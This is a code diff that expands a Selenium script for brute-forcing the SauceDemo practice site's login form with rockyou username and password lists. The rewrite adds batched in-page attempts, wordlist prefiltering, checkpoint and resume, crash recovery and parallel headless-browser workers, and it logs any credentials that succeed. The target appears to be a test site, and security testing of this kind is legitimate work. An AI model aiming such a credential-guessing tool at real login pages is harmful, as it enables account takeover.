@@ -1,65 +1,208 @@
-from selenium import webdriver
-from selenium.webdriver.common.by import By
-import time
+from selenium.common.exceptions import WebDriverException
+import argparse
+import itertools
 import os
-
-LOGIN_URL = "https://www.saucedemo.com/"
-
-driver = webdriver.Firefox()
-
-userlist_path = os.path.expanduser("~/Official-SauceDemo/Security/Compiled/Wordlists/rockyou-usernames.txt")
-wordlist_path = os.path.expanduser("~/Official-SauceDemo/Security/Compiled/Wordlists/rockyou-passwords.txt")
-success_log = os.path.expanduser("~/Official-SauceDemo/Security/Compiled/Results/BruteForceLogin.txt")
-
-try:
-    with open(userlist_path, "r", encoding="latin-1") as file:
-        usernames = file.read().splitlines()
-except FileNotFoundError:
-    print(f"[ERROR] Username list not found at {userlist_path}")
-    driver.quit()
-    exit()
-
-try:
-    with open(wordlist_path, "r", encoding="latin-1") as file:
-        passwords = file.read().splitlines()
-except FileNotFoundError:
-    print(f"[ERROR] Password list not found at {wordlist_path}")
-    driver.quit()
-    exit()
-
-success_file = open(success_log, "a")
-
-for username in usernames:
-    for password in passwords:
-        try:
-            driver.get(LOGIN_URL)
-
-            username_input = driver.find_element(By.ID, "user-name")
-            password_input = driver.find_element(By.ID, "password")
-            login_button = driver.find_element(By.ID, "login-button")
-
-            username_input.clear()
-            password_input.clear()
-            username_input.send_keys(username)
-            password_input.send_keys(password)
-            login_button.click()
-
-            time.sleep(0.1)  
-
-            if "inventory.html" in driver.current_url:
-                success_msg = f"[SUCCESS] Username: {username} | Password: {password}"
-                print(success_msg)
-
-                success_file.write(success_msg + "\n")
-
-                driver.get("https://www.saucedemo.com/")  
-            else:
-                print(f"[FAILED] Username: {username} | Password: {password}")
-
-        except Exception as e:
-            print(f"[ERROR] {e}")
-            continue
-
-success_file.close()
-
-driver.quit()
+import sys
+
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))
+
+from Common.Config import BASE_URL
+from Common.DriverPool import browser_alive, launch_firefox
+from Common.Results import result_path
+from CredentialSource import CredentialSource
+from BruteForceEngine import FAILED, SUCCESS, BrowserCrashed, make_engine
+from Checkpoint import Checkpoint, CheckpointMismatch
+from BruteForceShards import SHARDS_PER_WORKER, read_hits, run_parallel
+from Progress import ProgressReporter, write_stats
+from WordlistFilter import SAUCEDEMO_CHARSET, make_policy, prefilter
+
+LOGIN_URL = BASE_URL
+
+userlist_path = result_path("Security", "Compiled", "Wordlists", "rockyou-usernames.txt")
+wordlist_path = result_path("Security", "Compiled", "Wordlists", "rockyou-passwords.txt")
+success_log = result_path("Security", "Compiled", "Results", "BruteForceLogin.txt")
+stats_log = result_path("Security", "Compiled", "Results", "BruteForceLogin.stats.txt")
+checkpoint_path = result_path("Security", "Compiled", "Results", "BruteForceLogin.checkpoint.json")
+shard_checkpoint_dir = result_path("Security", "Compiled", "Results", "BruteForceShards")
+filtered_dir = result_path("Security", "Compiled", "Results", "Filtered")
+
+
+def parse_args(argv):
+    parser = argparse.ArgumentParser(description="Brute-force the SauceDemo login form with the rockyou wordlists.")
+    parser.add_argument("--engine", choices=["batch", "form"], default="batch",
+                        help="'batch' drives the form from inside the page, many attempts per round trip; "
+                             "'form' is the original one-attempt-per-page-load loop.")
+    parser.add_argument("--batch-size", type=int, default=100,
+                        help="Credentials submitted per WebDriver round trip with --engine batch.")
+    parser.add_argument("--userlist", default=userlist_path,
+                        help="Username wordlist; plain text, .gz or .zst.")
+    parser.add_argument("--wordlist", default=wordlist_path,
+                        help="Password wordlist; plain text, .gz or .zst.")
+    parser.add_argument("--no-prefilter", dest="prefilter", action="store_false",
+                        help="Try every line of both lists as is, instead of dropping candidates that cannot log in.")
+    parser.add_argument("--min-length", type=int, default=1, help="Pre-filter: shortest candidate kept.")
+    parser.add_argument("--max-length", type=int, default=64,
+                        help="Pre-filter: longest candidate kept (0 for no limit).")
+    parser.add_argument("--charset", default=SAUCEDEMO_CHARSET,
+                        help="Pre-filter: characters a candidate may contain ('' for any); "
+                             "default printable ASCII without whitespace.")
+    parser.add_argument("--known-invalid", action="append", default=[], metavar="PATH",
+                        help="Pre-filter: wordlist of candidates known not to work (repeatable).")
+    parser.add_argument("--resume", action="store_true",
+                        help="Continue from the last checkpoint instead of starting over.")
+    parser.add_argument("--checkpoint", default=checkpoint_path, help="Checkpoint file.")
+    parser.add_argument("--checkpoint-every", type=int, default=1000,
+                        help="Save the checkpoint at least every N attempts (and every 30s).")
+    parser.add_argument("--max-restarts", type=int, default=5,
+                        help="How many times a crashed browser is relaunched before giving up.")
+    parser.add_argument("--workers", type=int, default=1,
+                        help="Split the keyspace across N processes, each with its own headless Firefox.")
+    parser.add_argument("--shards", type=int,
+                        help=f"Number of keyspace shards with --workers (default: {SHARDS_PER_WORKER} per worker).")
+    parser.add_argument("--progress-interval", type=float, default=2.0,
+                        help="Seconds between progress line updates.")
+    parser.add_argument("--debug", action="store_true",
+                        help="Also print every failed attempt (slow over large wordlists).")
+    parser.add_argument("--headless", action="store_true", help="Run Firefox headless.")
+    return parser.parse_args(argv)
+
+
+def load_checkpoint(args, credentials):
+    if not args.resume:
+        return Checkpoint(args.checkpoint, credentials.fingerprint(), every_attempts=args.checkpoint_every)
+    checkpoint = Checkpoint.resume(args.checkpoint, credentials.fingerprint(), every_attempts=args.checkpoint_every)
+    user_index, password_index = checkpoint.cursor
+    print(f"Resuming at username #{user_index}, password #{password_index} "
+          f"({checkpoint.attempts} attempts done, {len(checkpoint.retry)} to retry, {len(checkpoint.hits)} hits)")
+    return checkpoint
+
+
+def prefilter_credentials(credentials, args):
+    """Drops candidates the policy rules out from both lists before any browser starts."""
+    policy = make_policy(args.min_length, args.max_length, args.charset, args.known_invalid)
+    userlist, users = prefilter(credentials.userlist_path, filtered_dir, policy, "Usernames")
+    wordlist, passwords = prefilter(credentials.wordlist_path, filtered_dir, policy, "Passwords")
+    print(users.summary())
+    print(passwords.summary())
+    before = users.total * passwords.total
+    after = users.kept * passwords.kept
+    shrink = 100 * (before - after) / before if before else 0.0
+    print(f"Keyspace: {before} -> {after} pairs ({shrink:.1f}% smaller)")
+    return CredentialSource(userlist, wordlist, credentials.encoding)
+
+
+def run_attempts(engine, credentials, checkpoint, success_file, reporter, debug=False):
+    for attempt in engine.run(credentials):
+        checkpoint.record(attempt)
+        reporter.record(attempt.status)
+        if attempt.status == SUCCESS:
+            success_msg = f"[SUCCESS] Username: {attempt.username} | Password: {attempt.password}"
+            reporter.log(success_msg)
+            success_file.write(success_msg + "\n")
+            success_file.flush()
+        elif attempt.status == FAILED:
+            if debug:
+                reporter.log(f"[FAILED] Username: {attempt.username} | Password: {attempt.password}")
+        else:
+            if attempt.error:
+                reporter.log(f"[ERROR] {attempt.error}")
+            if not browser_alive(engine.driver):
+                raise BrowserCrashed()
+
+
+def finish(reporter, args):
+    stats = reporter.finish()
+    write_stats(stats_log, stats, engine=args.engine, workers=args.workers)
+    print(f"\n{stats['attempts']} attempts in {stats['elapsed']:.1f}s ({stats['rate']:.1f} attempts/sec, "
+          f"engine: {args.engine}, workers: {args.workers}), {stats['errors']} errors, {stats['hits']} hits")
+    print(f"Stats written to {stats_log}")
+
+
+def main_parallel(args, credentials):
+    options = {
+        "engine": args.engine,
+        "batch_size": args.batch_size,
+        "login_url": LOGIN_URL,
+        "checkpoint_dir": shard_checkpoint_dir,
+        "checkpoint_every": args.checkpoint_every,
+        "max_restarts": args.max_restarts,
+        "debug": args.debug,
+    }
+    shard_count = args.shards or args.workers * SHARDS_PER_WORKER
+
+    os.makedirs(os.path.dirname(success_log), exist_ok=True)
+    reporter = ProgressReporter(0, interval=args.progress_interval)
+    try:
+        with open(success_log, "a") as success_file:
+            incomplete = run_parallel(credentials, options, args.workers, shard_count, args.resume,
+                                      success_file, read_hits(success_log), reporter)
+    except CheckpointMismatch as e:
+        print(f"[ERROR] Cannot resume: {e}")
+        return 1
+    finish(reporter, args)
+    return 1 if incomplete else 0
+
+
+def main(argv=None):
+    args = parse_args(sys.argv[1:] if argv is None else argv)
+
+    try:
+        credentials = CredentialSource(args.userlist, args.wordlist)
+        if args.prefilter:
+            credentials = prefilter_credentials(credentials, args)
+    except FileNotFoundError as e:
+        print(f"[ERROR] {e}")
+        return 1
+    user_count, password_count = credentials.size()
+    if user_count * password_count == 0:
+        print(f"Nothing to try: {user_count} usernames x {password_count} passwords.")
+        return 0
+    if args.workers > 1:
+        return main_parallel(args, credentials)
+
+    try:
+        checkpoint = load_checkpoint(args, credentials)
+    except FileNotFoundError as e:
+        print(f"[ERROR] {e}")
+        return 1
+    except CheckpointMismatch as e:
+        print(f"[ERROR] Cannot resume: {e}")
+        return 1
+    if checkpoint.complete:
+        print("The checkpointed run already covered the whole keyspace; nothing to resume.")
+        return 0
+
+    os.makedirs(os.path.dirname(success_log), exist_ok=True)
+    reporter = ProgressReporter(user_count * password_count, done=checkpoint.attempts, interval=args.progress_interval)
+    restarts = 0
+    try:
+        with open(success_log, "a") as success_file:
+            while True:
+                driver = launch_firefox(headless=args.headless)
+                engine = make_engine(args.engine, driver, LOGIN_URL, args.batch_size)
+                todo = itertools.chain(checkpoint.pending_retries(), credentials.credentials(checkpoint.cursor))
+                try:
+                    run_attempts(engine, todo, checkpoint, success_file, reporter, args.debug)
+                    break
+                except BrowserCrashed:
+                    checkpoint.save()
+                    restarts += 1
+                    if restarts > args.max_restarts:
+                        reporter.log(f"[ERROR] Browser crashed {restarts} times; stopping. Continue later with --resume.")
+                        return 1
+                    reporter.log("[ERROR] Browser crashed; relaunching and continuing from the checkpoint.")
+                finally:
+                    try:
+                        driver.quit()
+                    except WebDriverException:
+                        pass
+        checkpoint.save(complete=not checkpoint.retry)
+    finally:
+        if not checkpoint.complete:
+            checkpoint.save()
+        finish(reporter, args)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())